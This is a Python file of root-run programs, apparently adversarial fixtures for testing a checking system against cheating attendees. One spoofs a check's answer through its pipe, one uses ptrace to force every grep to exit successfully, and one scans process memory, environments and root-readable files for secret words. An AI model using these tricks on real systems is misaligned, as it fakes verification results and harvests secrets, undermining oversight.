"""Python programs that an attendee leaves running as root."""

SPY = r"""
import os, time

os.path.exists('/srv/answer') or os.mkfifo('/srv/answer')
open('/tmp/ready', 'w').close()
end = time.time() + 60
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            line = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
            if b'/srv/answer' in line and b'-q' in line:
                pipe = os.open('/srv/answer', os.O_WRONLY | os.O_NONBLOCK)
                os.write(pipe, line[line.index(b'-q') + 1] + b'\n')
                os.close(pipe)
        except OSError:
            pass
    time.sleep(0.01)
"""
"""Reads in a check's command line what it looks for, and writes it into its pipe."""

TRACER = r"""
import ctypes, os, time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = 'r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip'
REST = 'cs eflags rsp ss fs_base gs_base ds es fs gs'
ATTACH, POKE, GET, SET, CONTINUE = 16, 4, 12, 13, 7

class Registers(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (NAMES + ' ' + REST).split()]

def leave(pid):
    if libc.ptrace(ATTACH, pid, None, None):
        return
    os.waitpid(pid, 0)
    registers = Registers()
    libc.ptrace(GET, pid, None, ctypes.addressof(registers))
    libc.ptrace(POKE, pid, registers.rip, 0x050F)  # syscall
    registers.rax, registers.rdi, registers.orig_rax = 231, 0, 2**64 - 1
    libc.ptrace(SET, pid, None, ctypes.addressof(registers))
    while True:
        libc.ptrace(CONTINUE, pid, None, None)
        if not os.WIFSTOPPED(os.waitpid(pid, 0)[1]):
            return

open('/tmp/ready', 'w').close()
end = time.time() + 60
seen = set()
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            if pid not in seen and open(f'/proc/{pid}/comm').read() == 'grep\n':
                seen.add(pid)
                leave(int(pid))
        except OSError:
            pass
"""
"""Attaches to every grep and has it end with success."""

SCANNER = r"""
import glob, os, time

WORDS = {w: (f'{"an" if w == "open" else "a"} {w} ' + 'word').encode()
         for w in ('open', 'hidden')}
found = set()

def look(data):
    found.update(w for w, word in WORDS.items() if word in data)

def memory(pid):
    for line in open(f'/proc/{pid}/maps'):
        span, rights, *_ = line.split()
        begin, end = (int(part, 16) for part in span.split('-'))
        if rights.startswith('rw') and end - begin < 2**27:
            with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
                mem.seek(begin)
                look(mem.read(end - begin))

def attempt(do, *arguments):
    try:
        do(*arguments)
    except (OSError, ValueError):
        pass

passes = 0
end = time.time() + 60
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if pid == str(os.getpid()):
            continue
        for name in ('cmdline', 'environ'):
            attempt(lambda: look(open(f'/proc/{pid}/{name}', 'rb').read()))
        attempt(memory, pid)
    for top in ('/tmp', '/var/cache/puppet', '/run', '/root', '/dev/shm'):
        for path in glob.glob(f'{top}/**', recursive=True, include_hidden=True):
            if os.path.isfile(path) and not path.startswith('/tmp/daemon'):
                attempt(lambda: look(open(path, 'rb').read(2**20)))
    passes += 1
    open('/srv/found', 'w').write(' '.join(sorted(found)))
    open('/tmp/passes', 'w').write(str(passes))
    open('/tmp/ready', 'w').close()
"""
"""Looks for two words wherever root can read, again and again."""
